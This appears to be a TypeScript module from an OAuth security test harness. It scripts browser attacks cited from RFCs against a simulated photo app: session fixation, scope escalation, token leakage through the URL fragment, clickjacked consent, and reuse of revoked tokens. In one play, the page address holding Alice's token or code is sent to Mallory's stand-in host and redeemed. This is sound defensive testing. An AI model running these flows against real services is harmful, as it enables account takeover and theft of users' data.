import { randomBytes } from 'node:crypto'
import { setTimeout as moment } from 'node:timers/promises'
import type { Play } from './plays.ts'
import { codeIn } from './scene.ts'

const A_SECOND = 1_100

/** RFC 6265 §8.4: Mallory made a session id up and wrote it into Alice's browser before Alice signed in. */
const sessionFixation: Play = async (scene) => {
  const planted = randomBytes(32).toString('base64url')
  scene.alice.isPlanted('cv_session', planted)
  await scene.alice.approves(scene.link())
  return scene.photographsInVault(`cv_session=${planted}`)
}

/** RFC 6819 §4.2.2: one word more than Alice allowed, while she is signed in. She decides nothing the second time. */
const scopeCreep: Play = async (scene) => {
  await scene.alice.approves(scene.link({ scope: 'list_albums' }))
  const code = codeIn(await scene.alice.passesBy(scene.link({ scope: 'list_albums read_photos' })))
  return code === null ? 0 : scene.photographs((await scene.redeems({ code, verifier: scene.verifier })).access_token)
}

/**
 * RFC 9700 §2.1.2: the app takes its token from the address, where the server still gives one. Where it does not, the app
 * asks for a code, as every app has to. Either way Mallory's counter on its page reports the address it stands on.
 */
const tokenInFragment: Play = async (scene) => {
  const answered = await scene.alice.approves(scene.link({ response_type: 'token' }))
  const address = tokenIn(answered) === null ? await scene.alice.approves(scene.link()) : answered
  const code = codeIn(address)
  if (code !== null) await scene.redeems({ code, verifier: scene.verifier })
  await scene.wire.ask(
    `${scene.parties.mallory}/caught/${scene.asked.run}?${new URLSearchParams({ page: address ?? '' })}`,
  )

  const [caught] = await scene.caught()
  const seen = caught ? new URL(caught.url, scene.parties.mallory).searchParams.get('page') : null
  const token = tokenIn(seen) ?? (await scene.redeems({ code: codeIn(seen) ?? '' })).access_token
  return scene.photographs(token)
}

/** RFC 6749 §4.2.2: what an address may carry behind its #. */
export function tokenIn(address: string | null): string | null {
  return address && URL.canParse(address)
    ? new URLSearchParams(new URL(address).hash.slice(1)).get('access_token')
    : null
}

/** RFC 6750 §5.1: a token in a report. Alice's app gives it back; Mallory reads the report when a short life would be over. */
const leakedToken: Play = async (scene) => {
  const { access_token: leaked } = await scene.connects()
  if (!leaked) return 0
  await scene.revokes(leaked)
  await moment(A_SECOND)
  return scene.photographs(leaked)
}

/** RFC 9700 §4.16: Alice has signed in for this app and gone on without deciding. Then she clicks on a page of Mallory's. */
const clickjackedConsent: Play = async (scene) => {
  await scene.alice.signsIn(scene.link())
  const leadsTo = await scene.alice.clicksInFrame(scene.link())
  if (leadsTo === null) return 0
  await scene.alice.follows(leadsTo)
  const [caught] = await scene.caught()
  const code = codeIn(caught ? new URL(caught.url, scene.parties.mallory).href : null)
  return code === null ? 0 : scene.photographs((await scene.redeems({ code, verifier: scene.verifier })).access_token)
}

/** The attacks that go through a browser: its cookies, its history, its frames. */
export const BROWSER_PLAYS: Record<string, Play> = {
  'session-fixation': sessionFixation,
  'scope-creep': scopeCreep,
  'token-in-fragment': tokenInFragment,
  'clickjacked-consent': clickjackedConsent,
  'leaked-token': leakedToken,
}
